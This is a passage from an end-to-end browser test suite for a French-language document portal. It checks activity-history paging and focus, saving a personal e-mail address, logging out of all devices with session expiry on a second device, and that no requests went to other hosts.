    // The first of the new lines has the focus, for the reader to go on from there.
    expect(await page.evaluate(() => (document.activeElement as HTMLElement).dataset.id)).toBe(await entries.nth(50).getAttribute('data-id'));
    // Newest first: in the order the lines were written (their ids), the second page after the first.
    const ids = await entries.evaluateAll((lis) => lis.map((li) => Number((li as HTMLElement).dataset.id)));
    expect(ids, 'newest first, no line twice').toEqual([...new Set(ids)].sort((a, b) => b - a));
    expect((await entries.allInnerTexts()).join('\n')).toContain(`Vous avez téléchargé le document « ${REPLACED_TITLE} »`);
    await checkScreen(page, width, '15b-activity-more', 'Mon historique');
  });

  it('9. saves a personal e-mail address, then logs out everywhere: another device goes to the login screen on its next call', async () => {
    await menu(page, width, 'Paramètres');
    await checkScreen(page, width, '16-settings', 'Paramètres');
    const before = query<{ personal_email: string | null }>('SELECT personal_email FROM mailboxes WHERE address = ?', JEANNE)[0]!.personal_email;
    const email = page.getByLabel('Adresse e-mail personnelle');
    expect(await email.inputValue()).toBe(before ?? '');
    const address = `jeanne.${width}@example.org`;
    await email.fill(address);
    await page.getByRole('button', { name: 'Enregistrer', exact: true }).click();
    await page.getByRole('status').filter({ hasText: `C’est enregistré : les avis seront envoyés à ${address}.` }).waitFor();
    expect(query<{ personal_email: string }>('SELECT personal_email FROM mailboxes WHERE address = ?', JEANNE)[0]!.personal_email).toBe(address);
    await checkScreen(page, width, '16b-settings-saved', 'Paramètres');

    // Another device, logged in too.
    const other = await openPage(width);
    await other.page.goto(`${base}/`);
    await other.page.getByLabel('Adresse de messagerie').waitFor();
    await login(other.page);

    other.sessionEnded = true;
    await page.getByRole('button', { name: 'Me déconnecter de tous mes appareils' }).click();
    await announced(page, 'Vous êtes déconnecté de tous vos appareils.');
    await checkScreen(page, width, '17-logged-out-everywhere', 'Connexion', { loggedIn: false });
    expect(query<{ n: number }>('SELECT count(*) AS n FROM web_sessions s JOIN mailboxes m ON m.id = s.mailbox_id WHERE m.address = ?', JEANNE)[0]!.n).toBe(0);

    // The other device's next call: back to the login screen, told why.
    await menu(other.page, width, 'Mes documents');
    await checkScreen(other.page, width, '18-other-device', 'Connexion', { loggedIn: false });
    await announced(other.page, 'Votre session a expiré. Reconnectez-vous.');

    // Logged in again there, then out of that device only.
    other.sessionEnded = false;
    // Back where it was going when the session ended.
    await login(other.page, 'Mes documents');
    if (width === 360) await other.page.getByRole('button', { name: 'Menu' }).click();
    await other.page.getByRole('button', { name: 'Se déconnecter' }).click();
    await announced(other.page, 'Vous êtes déconnecté.');
    await checkScreen(other.page, width, '19-logged-out', 'Connexion', { loggedIn: false });

    expect(other.errors).toEqual([]);
    expect(other.foreign).toEqual([]);
  });

  it('asked nothing of any other host and logged no error', () => {
    expect(me.errors).toEqual([]);
    expect(me.foreign).toEqual([]);
  });
});
